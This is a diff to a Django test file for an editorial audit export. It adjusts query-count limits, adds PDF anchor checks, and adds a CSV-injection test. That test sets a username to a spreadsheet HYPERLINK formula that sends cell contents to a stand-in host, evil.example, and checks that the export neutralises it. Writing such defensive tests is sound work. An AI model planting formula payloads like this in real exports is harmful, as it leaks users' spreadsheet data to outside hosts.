@@ -11,7 +11,8 @@ from simple_history.models import HistoricalChanges
 
 from articles.models import Section
 from editorial import workflow
-from editorial.audit.export import signature_rows, timeline_rows
+from editorial.audit.anchors import anchor_checkpoint
+from editorial.audit.export import FORMULA_STARTS, csv_safe, signature_rows, timeline_rows
 from editorial.audit.timeline import article_timeline
 from tests.factories import ArticleFactory, editor_user
 
@@ -84,8 +85,9 @@ def test_timeline_query_count_is_constant_in_the_number_of_entries(
 ):
     # one query per chained history model (article, section, citation, assignment, flag),
     # signatures,
-    # one for the cited sources' history, one for the chain, one for reviewer names
-    with django_assert_max_num_queries(9) as few:
+    # one for the cited sources' history, one for their versions' history (issue 15), one for
+    # the chain, one for reviewer names
+    with django_assert_max_num_queries(10) as few:
         small = article_timeline(approved)
     for n in range(15):
         section = Section.objects.create(article=approved, heading=f"Extra {n}", position=n + 5)
@@ -101,8 +103,25 @@ def test_timeline_csv_round_trips(client, approved, editor):
     response = client.get(audit_url(approved, "timeline.csv"))
     assert response["Content-Type"] == "text/csv"
     parsed = list(csv.reader(io.StringIO(response.content.decode())))
-    assert parsed == timeline_rows(article_timeline(approved))
+    expected = [[csv_safe(c) for c in row] for row in timeline_rows(article_timeline(approved))]
+    assert parsed == expected
     assert len(parsed) > 5
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(
+    client, editor, author, start
+):
+    # OWASP CSV injection: a user name is shown in the "who" column of the timeline
+    author.username = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+    author.first_name, author.last_name = "", ""
+    author.save()
+    article = ArticleFactory(author=author)
+    client.force_login(editor)
+    body = client.get(audit_url(article, "timeline.csv")).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert any(cell.startswith(f"'{start}HYPERLINK(") for cell in cells)
 
 
 def test_signatures_csv_round_trips_with_a_unique_signoff_reference(client, approved, editor):
@@ -132,6 +151,17 @@ def test_pdf_opens_and_carries_the_signoff_reference(client, approved, editor):
     reference = article_timeline(approved).signatures[0].reference
     assert reference in text
     assert "Approval signatures" in text
+    assert "Not anchored yet" in text
+
+
+def test_pdf_names_the_anchor_the_chain_was_checked_against(client, approved, editor):
+    anchor = anchor_checkpoint()
+    client.force_login(editor)
+    response = client.get(audit_url(approved, "audit.pdf"))
+    reader = PdfReader(io.BytesIO(response.content))
+    text = " ".join(page.extract_text() for page in reader.pages).replace("\n", " ")
+    assert f"Checked against anchor {anchor['anchor_id']}" in text
+    assert "matches the anchored hash" in text
 
 
 def test_no_history_model_is_editable_in_the_admin():
@@ -159,7 +189,7 @@ def test_audit_page_query_count_is_constant_in_the_number_of_entries(
     # citation, assignment, flag, cited sources), signatures, chain, reviewer names,
     # 2 permission queries and
     # the board-member profile for the admin's navigation
-    with django_assert_max_num_queries(16) as few:
+    with django_assert_max_num_queries(17) as few:  # + the versions of the cited sources
         assert client.get(audit_url(approved)).status_code == 200
     for n in range(20):
         Section.objects.create(article=approved, heading=f"Extra {n}", position=n + 5)
